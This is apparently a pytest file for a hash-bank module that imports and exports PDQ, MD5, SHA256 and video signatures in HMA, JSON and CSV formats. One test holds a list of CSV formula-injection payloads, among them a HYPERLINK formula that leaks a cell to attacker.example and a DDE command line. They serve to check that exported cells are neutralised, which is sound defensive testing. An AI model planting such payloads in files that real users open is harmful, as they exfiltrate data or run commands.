from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from haechi.banks.formats import export_entries, guess_format, parse_entries
from haechi.banks.model import BankEntry
from haechi.csv_cells import FORMULA_STARTS, neutralise, restore
from haechi.errors import ImportFormatError
from haechi.hashing.signals import PdqHash, Signal, SignalKind
from haechi.hashing.video_format import FrameHash, VideoSignature

PDQ = "d8f8f0cee0f4a84f0637022a078f67f0b36e2ed596621e1d33e6339c4e9c9b22"
MD5 = "d35c785545392755e7e4164457657269"
SHA = "b5b0799616df52d475a3968dc7e54f1d0724c912244ffa6175bc786375dd7298"


def entry(entry_id: int = 1, case: str | None = "case-7", label: str = "라벨 label") -> BankEntry:
    return BankEntry(
        entry_id,
        "bank",
        label,
        case,
        datetime(2026, 11, 1, tzinfo=UTC),
        (
            Signal(SignalKind.PDQ, PDQ, 100),
            Signal(SignalKind.MD5, MD5),
            Signal(SignalKind.SHA256, SHA),
        ),
    )


def video_signature() -> VideoSignature:
    frames = [FrameHash(n, float(n), PdqHash.from_hex(PDQ[n:] + PDQ[:n], 90)) for n in range(3)]
    return VideoSignature.of(frames)


def video_entry(entry_id: int = 2) -> BankEntry:
    return BankEntry(
        entry_id,
        "bank",
        "",
        None,
        datetime(2026, 11, 1, tzinfo=UTC),
        (
            Signal.of_video(video_signature()),
            Signal(SignalKind.MD5, MD5.replace("d", "e")),
            Signal(SignalKind.SHA256, SHA.replace("b", "c")),
        ),
    )


def test_hma_file_names_a_pictures_digests_as_photos_and_a_videos_as_videos() -> None:
    digests_only = BankEntry(
        3, "bank", "", None, datetime(2026, 11, 1, tzinfo=UTC), entry().signals[1:]
    )
    text = export_entries([entry(), video_entry(), digests_only], "hma")
    lines = text.splitlines()
    assert lines[:3] == [f"pdq {PDQ}", f"photo_md5 {MD5}", f"photo_sha256 {SHA}"]
    assert lines[3].startswith("vpdq [")
    assert lines[4:6] == [
        f"video_md5 {MD5.replace('d', 'e')}",
        f"video_sha256 {SHA.replace('b', 'c')}",
    ]
    assert lines[6:] == [f"video_md5 {MD5}", f"video_sha256 {SHA}"]  # kind unknown: as before
    parsed = parse_entries(text + "\n# comment\n", "hma", label="partner")
    assert [e.signals for e in parsed] == [
        (s,) for e in (entry(), video_entry(), digests_only) for s in e.signals
    ]
    assert all(e.label == "partner" for e in parsed)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("photo_md5", SignalKind.MD5),
        ("video_md5", SignalKind.MD5),
        ("md5", SignalKind.MD5),
        ("photo_sha256", SignalKind.SHA256),
        ("video_sha256", SignalKind.SHA256),
        ("SHA256", SignalKind.SHA256),
    ],
)
def test_hma_digest_names_of_both_kinds_import(name: str, kind: SignalKind) -> None:
    value = MD5 if kind is SignalKind.MD5 else SHA
    [parsed] = parse_entries(f"{name} {value.upper()}\n", "hma")
    assert parsed.signals == (Signal(kind, value),)


def test_a_vpdq_feature_file_is_known_by_its_content() -> None:
    signature = video_signature()
    feature = "# clip.mp4\n" + signature.to_vpdq()
    for name in ("clip.txt", "clip.vpdq", "frames"):
        assert guess_format(name, feature) == "vpdq"
        assert guess_format(name, signature.to_vpdq()) == "vpdq"
    hma = export_entries([entry(), video_entry()], "hma")
    assert guess_format("bank.txt", hma) == "hma"
    assert guess_format("bank.txt", "") == "hma"
    assert guess_format("bank.json", feature) == "json"  # a name that says it wins
    # given as the HMA signal file it shares .txt with, it is still read as what it is
    [as_hma] = parse_entries(feature, "hma", label="from a partner")
    [as_vpdq] = parse_entries(feature, "vpdq", label="from a partner")
    assert as_hma == as_vpdq
    assert as_hma.signals[0].kind is SignalKind.VPDQ
    assert as_hma.signals[0].video() == signature
    entries = [BankEntry(1, "b", "", None, datetime(2026, 1, 1, tzinfo=UTC), as_hma.signals)]
    assert export_entries(entries, "vpdq") == signature.to_vpdq()


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_labelled_formats_round_trip(fmt: str) -> None:
    text = export_entries([entry(1), entry(2)], fmt, with_labels=True)
    parsed = parse_entries(text, fmt)
    assert len(parsed) == 2
    assert parsed[0].label == "라벨 label"
    assert parsed[0].signals == entry().signals
    assert parsed[0].added_at == datetime(2026, 11, 1, tzinfo=UTC)


@pytest.mark.parametrize("fmt", ["json", "csv", "hma"])
def test_labels_stay_home_unless_asked(fmt: str) -> None:
    text = export_entries([entry(label="김지영 사진 3")], fmt)
    assert "김지영" not in text and "label" not in text
    parsed = parse_entries(text, fmt, label="from partner")
    assert {e.label for e in parsed} == {"from partner"}
    assert "김지영" in export_entries([entry(label="김지영 사진 3")], "json", with_labels=True)


HOSTILE = [
    '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''",
    "'",
    "plain",
    "",
]


@pytest.mark.parametrize("label", HOSTILE)
def test_csv_cells_cannot_be_formulas_and_round_trip(label: str) -> None:
    text = export_entries([entry(label=label)], "csv", with_labels=True)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS, (label, row)
    [parsed] = parse_entries(text, "csv")
    assert parsed.label == label or (label == "" and parsed.label == "")


def test_csv_local_features_starting_with_plus_round_trip() -> None:
    import base64

    record = base64.b64encode(bytes([0xFB, 0xEF]) + b"\x00" * 10).decode()  # "++8A..."
    assert record.startswith("+")
    e = entry()
    with_record = BankEntry(e.id, e.bank, "", None, e.added_at, (Signal(SignalKind.ORB, record),))
    text = export_entries([with_record], "csv", with_local_features=True)
    assert f",'{record}," in text
    with pytest.raises(ImportFormatError):  # not a real record: refused by its parser, named
        parse_entries(text.replace(f"'{record}", "!"), "csv")


@given(st.text(max_size=40))
def test_neutralise_and_restore_are_inverse(value: str) -> None:
    written = neutralise(value)
    assert restore(written) == value
    assert not written or written[0] not in FORMULA_STARTS


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_case_refs_stay_home_unless_asked(fmt: str) -> None:
    assert "case-7" not in export_entries([entry()], fmt)
    with_refs = export_entries([entry()], fmt, with_case_refs=True)
    assert "case-7" in with_refs
    assert parse_entries(with_refs, fmt)[0].case_ref == "case-7"


def test_json_has_format_and_version() -> None:
    doc = json.loads(export_entries([entry()], "json"))
    assert doc["format"] == "haechi.bank" and doc["version"] == 1


@pytest.mark.parametrize(
    ("text", "fmt", "message"),
    [
        ("pdq nothex\n", "hma", "line 1"),
        (f"pdq {PDQ}\ntmk abc\n", "hma", "line 2: unknown signal type"),
        ("{not json", "json", "not JSON"),
        ('{"format": "other"}', "json", "not a haechi bank file"),
        ('{"format": "haechi.bank", "version": 9}', "json", "version 9"),
        ("value\nabc\n", "csv", "lacks the column"),
        (f"kind,value,quality\npdq,{PDQ},300\n", "csv", "outside 0-100"),
    ],
)
def test_bad_files_name_the_problem(text: str, fmt: str, message: str) -> None:
    with pytest.raises(ImportFormatError, match=message):
        parse_entries(text, fmt)


def test_guess_format() -> None:
    assert guess_format("x.JSON") == "json"
    assert guess_format("x.csv") == "csv"
    assert guess_format("x.txt") == "hma"
    assert guess_format("x.txt", f"pdq {PDQ}\n") == "hma"
